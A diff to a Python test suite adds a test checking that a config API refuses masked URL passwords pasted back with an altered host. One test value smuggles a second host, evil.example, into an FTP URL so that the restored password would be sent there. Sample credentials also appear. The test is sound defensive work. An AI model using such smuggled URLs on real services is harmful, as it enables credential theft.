@@ -322,6 +322,27 @@ def test_listings_hide_url_passwords_and_refuse_them_back(client, store):
     assert "***" not in store.get_logical("web1").sink
 
 
+def test_a_pasted_back_password_never_goes_to_another_host(client, store):
+    victim = 'dfs("ftp://ops:S3cretPw@ftp.corp/logs/app")'
+    aws = 'dfs("s3://AKIA:wJalr/K7MDENG+bPxRfiCY@bucket/logs")'
+    for name, sink in (("victim", victim), ("aws", aws)):
+        assert client.put(f"/api/configs/{name}", json={"source": "null", "sink": sink}
+                          ).status_code == 200
+    assert client.get("/api/configs/aws").json()["sink"] == 'dfs("s3://AKIA:***@bucket/logs")'
+    assert "wJalr" not in client.get("/api/configs").text
+    # the review's paste: stored, fsspec sent the password to evil.example
+    thief = 'dfs("ftp://ops:***@ftp.corp\\\\@evil.example/x/y")'
+    r = client.put("/api/configs/thief", json={"source": "null", "sink": thief})
+    assert r.status_code == 400, r.text
+    assert "cannot be put back" in r.json()["message"]
+    assert "type the password again" in r.json()["message"]
+    assert "S3cretPw" not in r.text and store.get_logical("thief") is None
+    # pasted back unchanged, both are restored
+    r = client.put("/api/configs/aws", json={"source": "null", "flow": "f2",
+                                             "sink": 'dfs("s3://AKIA:***@bucket/logs")'})
+    assert r.status_code == 200 and store.get_logical("aws").sink == aws
+
+
 def test_read_token_guards_listings_but_not_health_or_console(service):
     with TestClient(create_app(service, token=TOKEN, read_token="read-token-0123456789")) as c:
         for path in ("/api/status", "/api/configs", "/api/commands", "/api/mappings",
